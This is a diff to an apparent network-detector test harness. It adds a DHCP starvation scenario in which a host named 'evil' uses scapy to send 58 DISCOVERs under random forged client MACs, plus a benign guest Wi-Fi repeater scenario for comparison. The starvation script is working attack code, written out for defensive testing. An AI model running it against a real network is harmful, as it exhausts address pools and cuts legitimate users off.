@@ -2888,6 +2888,46 @@ scn_inventory_agent() {
 	kill "${srv[@]}" 2>/dev/null; wait "${srv[@]}" 2>/dev/null || true
 }
 
+# restart_gw_dnsmasq: the gateway's dnsmasq afresh, its leases forgotten.
+restart_gw_dnsmasq() {
+	ip netns pids "$P-gw" | xargs -r kill; sleep 0.5
+	rm -f "$tmp/gw.leases"; start_gw_dnsmasq; sleep 1
+}
+# Session 36 (fix36d): slow starvation (review 36a dhcp_starve_2s): .66
+# sends one DISCOVER every 2 s under a new random client address, 58 in
+# all; the gateway's dnsmasq offers each. Below 50 a minute, raised at the
+# 50th forged client address never REQUESTed.
+scn_dhcp_starve_slow_2s() {
+	restart_gw_dnsmasq
+	scapy evil 'for i in range(58):
+    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
+          BOOTP(chaddr=mac2str(RandMAC()), xid=RandInt())/DHCP(options=[("message-type", "discover"), "end"]), iface="eth0")
+    time.sleep(2)'
+	restart_gw_dnsmasq
+}
+# Benign: a busy guest Wi-Fi behind a MAC-translating repeater (pc2): 55
+# phones join within 80 s, each DISCOVER and REQUEST sent under the
+# repeater's MAC with the phone's client address and the broadcast flag;
+# dnsmasq's 51-address pool serves 51, the last 4 retry unanswered. No
+# starvation: each phone offered an address REQUESTs it.
+scn_benign_guest_wifi_repeater() {
+	restart_gw_dnsmasq
+	scapy pc2 'conf.checkIPaddr = False
+for i in range(55):
+    ph = "da:a1:19:36:%02x:%02x" % (i // 256, i % 256)
+    x = 0x3600 + i
+    b = BOOTP(chaddr=mac2str(ph), xid=x, flags=0x8000)
+    e = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)
+    for k in range(2):
+        o = srp1(e/b/DHCP(options=[("message-type", "discover"), ("hostname", "phone%d" % i), "end"]), iface="eth0", timeout=1)
+        if o is not None and DHCP in o:
+            break
+    if o is not None and BOOTP in o and o[BOOTP].yiaddr != "0.0.0.0":
+        sendp(e/b/DHCP(options=[("message-type", "request"), ("requested_addr", o[BOOTP].yiaddr), ("server_id", "'$NET.1'"), ("hostname", "phone%d" % i), "end"]), iface="eth0")
+    time.sleep(0.8)'
+	restart_gw_dnsmasq
+}
+
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
